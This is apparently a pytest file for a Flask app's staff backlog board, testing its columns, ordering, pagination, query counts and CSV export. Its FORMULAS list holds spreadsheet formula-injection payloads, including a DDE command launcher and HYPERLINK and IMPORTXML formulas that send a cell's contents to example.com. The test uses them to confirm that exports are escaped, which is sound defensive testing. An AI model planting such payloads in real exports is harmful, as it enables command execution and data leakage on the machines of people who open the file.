"""The board by state, its order, its price, and the table file."""

import csv
import io
from collections.abc import Callable

import pytest
from flask.testing import FlaskClient

from community.accounts.models import Person
from community.backlog.actions import add_evidence, decide
from community.ideas.models import STATES
from community.kernel.csv_export import plain
from community.products.models import Product
from community.topics.actions.voting import vote
from community.topics.text import written
from tests.backlog.stage import a_comment, an_idea, an_item, body_of
from tests.conftest import a_person
from tests.moderation.stage import Statements

Browser = Callable[[Person], FlaskClient]
MOST_STATEMENTS = 14

FORMULAS = (
    "=1+1",
    '=HYPERLINK("http://example.com/?x="&A1,"press")',
    "=cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://example.com/?",A1),"//a")',
    '=WEBSERVICE("http://example.com/")',
    "+1+1",
    "+SUM(1,1)",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "@A1",
    " =1+1",
    "\u3000=1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x0b=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
)


def test_each_state_has_its_column_and_declined_ones_stay_reachable(petra: Person, browser_of: Browser) -> None:
    for state in STATES:
        item = an_item(petra, title=f"Item in {state}")
        if state != "new":
            decide(item, state, written("Because."), by=petra)
    page = browser_of(petra).get("/staff/backlog").text
    for state in STATES[:-1]:
        column = page.split(f'id="c-{state}"')[1].split("</section>")[0]
        assert f"Item in {state}" in column
        assert column.count("Item in") == column.count(f"Item in {state}")
    assert "Item in declined" in page.split("</details>", 1)[1]


def test_a_card_shows_customers_and_votes_and_its_menu_leads_to_the_reply(
    alice: Person, bob: Person, carol: Person, petra: Person, kettle: Product, browser_of: Browser
) -> None:
    idea = an_idea(alice)
    for person in (bob, carol):
        vote(body_of(idea), by=person)
    item = an_item(petra, body_of(idea), a_comment(idea, bob), a_comment(idea, bob, "Again."), product=kettle)
    page = browser_of(petra).get("/staff/backlog").text
    card = page.split('<article class="tick">')[1].split("</article>")[0]
    assert 'class="score">2<' in card, "two people, three posts"
    assert ">2<span" in card.split("score")[1], "two votes, though the idea is evidence by several posts"
    assert "Drip kettle K2" in card
    for state in STATES[1:]:
        assert f'href="/staff/backlog/{item.id}?to={state}#f-reply"' in card


def test_cards_are_ordered_and_filtered_as_asked(
    alice: Person, bob: Person, carol: Person, petra: Person, kettle: Product, browser_of: Browser
) -> None:
    loved, wanted = an_idea(alice, "Loved"), an_idea(bob, "Wanted")
    vote(body_of(loved), by=bob)
    an_item(petra, body_of(loved), title="First votes", product=kettle)
    an_item(petra, body_of(wanted), a_comment(wanted, carol), title="Second customers")
    browser = browser_of(petra)

    def order(query: str) -> list[str]:
        page = browser.get(f"/staff/backlog?{query}").text
        return sorted((title for title in ("First votes", "Second customers") if title in page), key=page.index)

    assert order("") == ["Second customers", "First votes"]
    assert order("sort=votes") == ["First votes", "Second customers"]
    assert order("sort=changed") == ["Second customers", "First votes"]
    assert order("sort=waiting") == ["First votes", "Second customers"]
    assert order("product=kettle-k2") == ["First votes"]
    assert order("sort=nonsense&product=nonsense&state=nonsense") == ["Second customers", "First votes"]


@pytest.mark.parametrize("sort", ["customers", "votes", "changed", "waiting"])
def test_a_long_column_goes_on_in_a_list_of_its_own(sort: str, petra: Person, browser_of: Browser) -> None:
    for number in range(43):
        an_item(petra, title=f"Item number {number:02}.")
    browser = browser_of(petra)
    page = browser.get(f"/staff/backlog?sort={sort}").text
    assert page.count('<article class="tick">') == 20
    assert "Show all 43" in page
    seen: list[str] = []
    url = f"/staff/backlog?state=new&sort={sort}"
    while url:
        page = browser.get(url).text
        seen += [part.split("</a>")[0] for part in page.split('lang="en">Item number ')[1:]]
        after = page.split('rel="next"')[0].rsplit('href="', 1)[1] if 'rel="next"' in page else ""
        url = after.split('"')[0].replace("&amp;", "&")
    assert len(seen) == len(set(seen)) == 43


def test_board_item_and_new_page_cost_the_same_however_much_there_is(
    alice: Person, bob: Person, petra: Person, kettle: Product, browser_of: Browser
) -> None:
    idea = an_idea(alice, product=kettle)
    item = an_item(petra, body_of(idea))
    browser = browser_of(petra)
    urls = (
        "/staff/backlog",
        f"/staff/backlog/{item.id}",
        f"/staff/backlog/new?post={idea.body_post_id}",
        "/staff/backlog.csv",
    )
    counts = []
    for more in (1, 25):
        for number in range(more):
            comment = a_comment(idea, a_person(f"Person {more} {number}"))
            add_evidence(item, comment, quote="Mine too.", by=petra)
            other = an_item(petra, comment, title=f"Item {more} {number}", product=kettle)
            decide(other, STATES[number % 5 + 1], written("Because."), by=petra)
            decide(item, STATES[(more + number) % 5 + 1], written("Because."), by=petra)
        counts.append([])
        for url in urls:
            with Statements() as heard:
                assert browser.get(url).status_code == 200
            counts[-1].append(len(heard))
    assert counts[0] == counts[1]
    assert max(counts[0]) <= MOST_STATEMENTS


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def test_the_table_file_has_a_line_for_each_piece_of_evidence_with_links(
    alice: Person, bob: Person, petra: Person, kettle: Product, browser_of: Browser
) -> None:
    idea = an_idea(alice)
    item = an_item(petra, body_of(idea), a_comment(idea, bob), product=kettle)
    an_item(petra, title="Without evidence")
    answer = browser_of(petra).get("/staff/backlog.csv")
    assert answer.headers["Content-Type"].startswith("text/csv")
    assert "attachment" in answer.headers["Content-Disposition"]
    assert "no-store" in answer.headers["Cache-Control"]
    rows = cells(answer.get_data(as_text=True))
    assert rows[0][:6] == ["Number", "Item", "State", "Product", "Customers", "Votes"]
    assert [row[1] for row in rows[1:]] == ["Without evidence", "Keep the lid in place", "Keep the lid in place"]
    first = rows[2]
    assert first[2:6] == ["New", "Drip kettle K2", "2", "0"]
    assert first[7] == f"http://localhost/staff/backlog/{item.id}"
    assert first[8].startswith("The lid slides")
    assert first[12] == f"http://localhost/posts/{idea.body_post_id}"


def test_the_table_file_is_marked_for_excel_only_where_asked(petra: Person, browser_of: Browser) -> None:
    an_item(petra, title="ふた")
    browser = browser_of(petra)
    assert not browser.get("/staff/backlog.csv").data.startswith(b"\xef\xbb\xbf")
    marked = browser.get("/staff/backlog.csv?bom=1").data
    assert marked.startswith(b"\xef\xbb\xbf")
    assert "ふた" in marked.decode("utf-8-sig")


def test_no_formula_lives_in_any_cell(alice: Person, petra: Person, browser_of: Browser) -> None:
    assert len(FORMULAS) == len(set(FORMULAS)) == 24
    for formula in FORMULAS:
        author = a_person(formula[:40].replace("\x0b", "x"))
        idea = an_idea(author, formula)
        item = an_item(petra, title=formula if formula.strip() else "x")
        add_evidence(item, body_of(idea), quote=formula, by=petra)
    text = browser_of(petra).get("/staff/backlog.csv").get_data(as_text=True)
    rows = cells(text)
    assert len(rows) == 25
    quotes = [row[8] for row in rows[1:]]
    assert sorted(quotes) == sorted(f"'{formula}" for formula in FORMULAS)
    for row in rows:
        for cell in row:
            bare = cell.lstrip(" \u3000\u00a0\u200b\ufeff\t\r\n\x0b")
            assert cell.startswith("'") or not bare.startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠")), cell


@pytest.mark.parametrize("text", ["", "a=b", "1-2", "ふた", "'quoted'", "…", "a\n=1"])
def test_ordinary_text_is_left_as_it_is(text: str) -> None:
    assert plain(text) == text
